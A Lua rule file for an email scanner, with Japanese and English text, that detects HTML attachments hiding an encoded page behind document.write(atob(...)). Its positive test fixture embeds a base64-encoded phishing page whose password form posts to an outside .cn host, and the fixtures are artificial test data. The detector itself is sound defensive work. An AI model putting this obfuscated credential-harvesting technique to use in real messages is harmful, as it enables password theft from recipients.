return rule {
  id = "attachments/hidden-page",
  version = 1,
  section = "attachments",
  weight = 2.2,
  grade = "fact",
  title = { ja = "スクリプトに隠された画面", en = "A page hidden in a script" },
  explain = {
    ja = "添付「{name}」のスクリプトは、符号化して隠した別の Web ページを表示する。",
    en = "The script in the attachment \"{name}\" writes a page that it holds encoded.",
  },
  when = { "attachment", "attachment:page" },
  match = function(mail, evidence)
    for _, file in ipairs(mail.attachments) do
      local page = file.hidden
      if page.has_form or page.has_script or not page.visible.empty then
        evidence:add(file)
        evidence:set("name", file.name)
      end
    end
    return evidence.count > 0
  end,
  false_positives = { "Reports that unpack themselves in the browser." },
  tests = {
    { name = "base64 page", expect = true, mail = [[
From: a@example.com
To: info@example.jp
Subject: x
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/plain; charset=utf-8

See the file.
--b
Content-Type: text/html; name="a.html"
Content-Disposition: attachment; filename="a.html"

<!doctype html><html><body><script>document.write(atob("PGh0bWw+PGJvZHk+PGZvcm0gYWN0aW9uPSdodHRwczovL25sdWdqb2MuY24vJz48aW5wdXQgdHlwZT0ncGFzc3dvcmQnPjwvZm9ybT48L2JvZHk+PC9odG1sPg=="))</script></body></html>
--b--
]] },
    { name = "plain page", expect = false, mail = [[
From: a@example.com
To: info@example.jp
Subject: x
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/plain; charset=utf-8

See the file.
--b
Content-Type: text/html; name="a.html"
Content-Disposition: attachment; filename="a.html"

<!doctype html><html><body><script>var a = 'x'</script>Hello</body></html>
--b--
]] },
  },
}
